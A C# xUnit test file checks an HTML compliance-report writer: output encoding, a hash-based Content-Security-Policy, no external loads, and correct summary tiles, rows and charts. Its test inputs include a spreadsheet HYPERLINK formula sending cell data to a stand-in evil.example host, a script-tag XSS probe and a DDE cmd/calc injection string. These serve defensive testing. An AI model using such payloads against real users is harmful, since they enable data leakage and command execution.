using System;
using System.Linq;
using System.Security.Cryptography;
using System.Text;
using System.Text.RegularExpressions;
using AppBan.Engine.Reporting;
using Xunit;
using static AppBan.Engine.Tests.Reporting.ReportSamples;

namespace AppBan.Engine.Tests.Reporting
{
    public class HtmlReportWriterTests
    {
        private static readonly string Html = ReportWriter.WriteToString(Mixed(), ReportFormat.Html);

        [Fact]
        public void Hostile_strings_are_encoded_and_the_page_has_exactly_its_own_script()
        {
            Assert.Single(Regex.Matches(Html, "<script", RegexOptions.IgnoreCase));
            Assert.DoesNotContain("alert('x')", Html);
            Assert.Contains("=HYPERLINK(&quot;http://evil.example/&quot;&amp;A1,&quot;x&quot;)&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;", Html);
        }

        [Fact]
        public void Encode_covers_markup_quotes_and_control_characters()
        {
            Assert.Equal("&lt;a href=&quot;x&quot; title=&#39;y&#39;&gt;&amp;\uFFFD\uFFFD", HtmlReportWriter.Encode("<a href=\"x\" title='y'>&\u0000\u0085"));
            Assert.Equal("tab\tnew\nline", HtmlReportWriter.Encode("tab\tnew\nline"));
        }

        [Fact]
        public void The_csp_allows_exactly_the_inline_style_and_script_by_hash()
        {
            var csp = Regex.Match(Html, "<meta http-equiv=\"Content-Security-Policy\" content=\"([^\"]+)\">").Groups[1].Value;
            Assert.StartsWith("default-src 'none';", csp);
            Assert.DoesNotContain("unsafe-inline", csp);
            Assert.DoesNotContain("unsafe-eval", csp);
            var style = Regex.Match(Html, "<style>(.*?)</style>", RegexOptions.Singleline).Groups[1].Value;
            var script = Regex.Match(Html, "<script>(.*?)</script>", RegexOptions.Singleline).Groups[1].Value;
            Assert.Contains("style-src 'sha256-" + Sha256Base64(style) + "'", csp);
            Assert.Contains("script-src 'sha256-" + Sha256Base64(script) + "'", csp);
            // The policy comes before anything it governs.
            Assert.True(Html.IndexOf("Content-Security-Policy", StringComparison.Ordinal) < Html.IndexOf("<style>", StringComparison.Ordinal));
        }

        [Fact]
        public void Nothing_is_loaded_from_outside_the_file()
        {
            Assert.DoesNotMatch(new Regex(@"\s(src|href|srcset|action|formaction|poster|background)\s*=", RegexOptions.IgnoreCase), Html);
            Assert.DoesNotContain("url(", Html);
            Assert.DoesNotContain("@import", Html);
            Assert.DoesNotMatch(new Regex(@"\son[a-z]+\s*=", RegexOptions.IgnoreCase), Html);
        }

        [Theory]
        [InlineData("targets", 8)]
        [InlineData("compliant", 2)]
        [InlineData("noncompliant", 2)]
        [InlineData("exempt", 1)]
        [InlineData("unreachable", 1)]
        [InlineData("failed", 2)]
        [InlineData("removed", 1)]
        public void Tiles_show_the_summary(string tile, int count)
        {
            Assert.Matches("<div class=\"tile[^\"]*\" id=\"tile-" + tile + "\" data-count=\"" + count + "\"><span class=\"num\">" + count + "</span>", Html);
        }

        [Fact]
        public void One_row_per_host_with_its_status()
        {
            var rows = Regex.Matches(Html, "<tr class=\"host\" data-status=\"(\\w+)\"><td class=\"computer\">([^<]*)</td>");
            Assert.Equal(new[] { "pc-clean", "pc-fixed", "pc-bad", "pc-exempt", "pc-grace", "pc-down", "pc-error", "pc-never" },
                rows.Select(m => m.Groups[2].Value));
            Assert.Equal(new[] { "Compliant", "Remediated", "NonCompliant", "Exempt", "GracePeriod", "Unreachable", "Failed", "NotScanned" },
                rows.Select(m => m.Groups[1].Value));
        }

        [Fact]
        public void The_status_chart_has_one_bar_per_status_present()
        {
            var svg = Regex.Match(Html, "<svg[^>]*id=\"svg-status\".*?</svg>", RegexOptions.Singleline).Value;
            var bars = Regex.Matches(svg, "<g class=\"bar\" data-status=\"(\\w+)\" data-count=\"(\\d+)\">");
            Assert.Equal(8, bars.Count);
            Assert.DoesNotContain(bars, m => m.Groups[1].Value == "Partial");
            Assert.Equal("1", bars.Single(m => m.Groups[1].Value == "NotScanned").Groups[2].Value);
        }

        [Fact]
        public void The_app_chart_names_the_top_apps_and_groups_the_rest()
        {
            var b = NewBuilder();
            for (var i = 0; i < HtmlReportWriter.MaxChartApps + 3; i++)
            {
                var f = Finding("pc", "App " + i.ToString("00"));
                f.RuleName = null;
                f.RuleId = "rule-" + i;
                b.AddFinding(f);
                if (i == 0)
                {
                    var again = Finding("pc2", "App 00");
                    again.RuleName = null;
                    b.AddFinding(again);
                }
            }
            var html = ReportWriter.WriteToString(b.Build(), ReportFormat.Html);
            var svg = Regex.Match(html, "<svg[^>]*id=\"svg-apps\".*?</svg>", RegexOptions.Singleline).Value;
            var bars = Regex.Matches(svg, "<g class=\"bar\" data-count=\"(\\d+)\"><title>([^<]*)</title>");
            Assert.Equal(HtmlReportWriter.MaxChartApps + 1, bars.Count);
            Assert.Equal("App 00: 2", bars[0].Groups[2].Value);
            Assert.Equal("Other (3 apps): 3", bars[bars.Count - 1].Groups[2].Value);
        }

        [Fact]
        public void Policy_exemption_changes_get_their_own_table()
        {
            Assert.Single(Regex.Matches(Html, "<tr class=\"policy-exemption\">"));
            Assert.Contains("<td>@SUM(1+1)*cmd|&#39; /C calc&#39;!A0</td>", Html);
        }

        [Fact]
        public void Errors_show_in_red_and_messages_apart_from_them()
        {
            var html = ReportWriter.WriteToString(Explained(), ReportFormat.Html);
            Assert.Contains(": <span class=\"error\">The removal ran and the app is still installed.</span>", html);
            Assert.Contains(": <span class=\"message\">" + HtmlReportWriter.Encode(UserActionMessage) + "</span>", html);
            Assert.Contains(": <span class=\"message\">" + HtmlReportWriter.Encode(RestartMessage) + "</span>", html);
            Assert.Single(Regex.Matches(html, "<span class=\"error\">"));
            Assert.Contains(".error{color:#c62828}", HtmlReportWriter.Style);
            Assert.DoesNotMatch(@"\.message\{[^}]*#c62828", HtmlReportWriter.Style);
            Assert.Contains("<span class=\"error\">pc-down: no answer</span>", Html);
        }

        [Fact]
        public void A_cancelled_run_says_so()
        {
            var b = NewBuilder();
            b.DeclareTargets(new[] { "a" });
            b.MarkCancelled();
            var html = ReportWriter.WriteToString(b.Build(), ReportFormat.Html);
            Assert.Contains("id=\"cancelled\"", html);
            Assert.DoesNotContain("id=\"cancelled\"", Html);
        }

        private static string Sha256Base64(string text)
        {
            using var sha = SHA256.Create();
            return Convert.ToBase64String(sha.ComputeHash(Encoding.UTF8.GetBytes(text)));
        }
    }
}
